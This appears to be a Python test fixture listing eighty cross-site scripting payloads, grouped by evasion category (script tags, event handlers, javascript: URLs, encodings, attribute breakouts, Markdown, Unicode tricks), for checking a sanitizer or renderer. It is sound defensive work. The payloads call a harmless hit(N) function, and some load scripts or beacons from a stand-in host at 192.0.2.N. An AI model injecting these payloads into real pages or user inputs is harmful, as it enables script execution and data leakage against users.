"""Eighty texts that would run a script or call another host if the page took them for markup.

Our own, a few for every category of OWASP's XSS filter-evasion list, then Markdown, blocks of HTML, and characters
that reorder or hide. `hit(N)` is what they run, 192.0.2.N (a network that is nobody's) whom they call.
"""

from __future__ import annotations

_SCRIPTS = [
    "<script>hit(N)</script>",
    "<SCRIPT SRC=http://192.0.2.N/a.js></SCRIPT>",
    "<scr<script>ipt>hit(N)</scr</script>ipt>",
    "</title><script>hit(N)</script>",
    "</textarea><script>hit(N)</script>",
    "<script/x>hit(N)</script>",
    "<<script>hit(N);//<</script>",
    "<script\n>hit(N)</script\n>",
    "<svg><script>hit(N)</script></svg>",
    "<script type=module>hit(N)</script>",
]
_HANDLERS = [
    "<img src=x onerror=hit(N)>",
    "<IMG SRC=x ONERROR=hit(N)>",
    "<img/src=x/onerror=hit(N)>",
    "<img src=x onerror=hit(N)//",
    '<img """><img src=x onerror="hit(N)">',
    "<img\tsrc=x\tonerror\t=\thit(N)>",
    "<svg onload=hit(N)>",
    "<svg><animate onbegin=hit(N) attributeName=x dur=1s>",
    "<body onload=hit(N)>",
    "<details open ontoggle=hit(N)>x</details>",
    "<video><source onerror=hit(N)></video>",
    "<audio src=x onerror=hit(N)>",
    "<input autofocus onfocus=hit(N)>",
    "<select autofocus onfocus=hit(N)></select>",
    "<iframe onload=hit(N)></iframe>",
    "<object data=x onerror=hit(N)></object>",
    "<div style='animation:arrive 1ms' onanimationstart=hit(N)>x</div>",
    "<p tabindex=1 onpointerover=hit(N)>x</p>",
    "<link rel=stylesheet href=x onerror=hit(N)>",
    "<style onload=hit(N)></style>",
]
_ADDRESSES = [
    "<a href=javascript:hit(N)>link</a>",
    "<a href='jav\tascript:hit(N)'>link</a>",
    "<a href='&#106;avascript:hit(N)'>link</a>",
    "<iframe src=javascript:parent.hit(N)></iframe>",
    "<iframe srcdoc='<script>parent.hit(N)</script>'></iframe>",
    "<iframe src=http://192.0.2.N/></iframe>",
    "<embed src=http://192.0.2.N/x.svg>",
    "<object data=http://192.0.2.N/></object>",
    "<form action=javascript:hit(N)><button>go</button></form>",
    "<form action=http://192.0.2.N/><input name=q></form>",
    "<base href=http://192.0.2.N/>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.N/'>",
]
_DISGUISES = [
    "&lt;img src=x onerror=hit(N)&gt;",
    "&#60;img src=x onerror=hit(N)&#62;",
    "\\x3cimg src=x onerror=hit(N)\\x3e",
    "%3Cimg src=x onerror=hit(N)%3E",
    "＜img src=x onerror=hit(N)＞",
    "<img src=x onerror=&#104;it(N)>",
    "<img src=x onerror=\\u0068it(N)>",
    "<ımg src=x onerror=hit(N)><img src=x onerror=hit(N)>",
]
_BREAKOUTS = [
    '"><img src=x onerror=hit(N)>',
    "'><img src=x onerror=hit(N)>",
    '" onpointerover="hit(N)" x="',
    "' onfocus='hit(N)' autofocus x='",
    "`-hit(N)-`",
    "</button><img src=x onerror=hit(N)>",
    "--><img src=x onerror=hit(N)><!--",
    "]]><img src=x onerror=hit(N)>",
]
_TEMPLATES = ["${hit(N)}", "{{hit(N)}}", "{@html hit(N)}", "<%= hit(N) %>"]
_STYLES = [
    "<style>@import 'http://192.0.2.N/a.css';</style>",
    "<style>body{background:url(http://192.0.2.N/b.png)}</style>",
    "<div style='background:url(http://192.0.2.N/c.png)'>x</div>",
    "<link rel=stylesheet href=http://192.0.2.N/d.css>",
]
_MARKDOWN = [
    "![beacon](http://192.0.2.N/m.png)",
    "[link](javascript:hit(N))",
    "[![both](http://192.0.2.N/i.png)](javascript:hit(N))",
    "![x](x \"onerror='hit(N)'\")",
    "<http://192.0.2.N/auto>",
    "[ref]: javascript:hit(N)",
]
_BLOCKS = [
    "<img src=http://192.0.2.N/beacon.png>",
    "<table background=http://192.0.2.N/t.png><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=hit(N)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(N)></style></table></mtext></math>",
]
_CHARACTERS = [
    "\u202e<img src=x onerror=hit(N)>\u202c",
    "<im\u200bg src=x onerror=hit(N)><img src=x onerror=hit(N)>",
    "\u0000<img src=x onerror=hit(N)>",
    "<img\u000csrc=x\u000conerror=hit(N)>",
]
_ALL = (
    _SCRIPTS
    + _HANDLERS
    + _ADDRESSES
    + _DISGUISES
    + _BREAKOUTS
    + _TEMPLATES
    + _STYLES
    + _MARKDOWN
    + _BLOCKS
    + _CHARACTERS
)
PAYLOADS = [payload.replace("(N)", f"({n})").replace("2.N", f"2.{n}") for n, payload in enumerate(_ALL, start=1)]
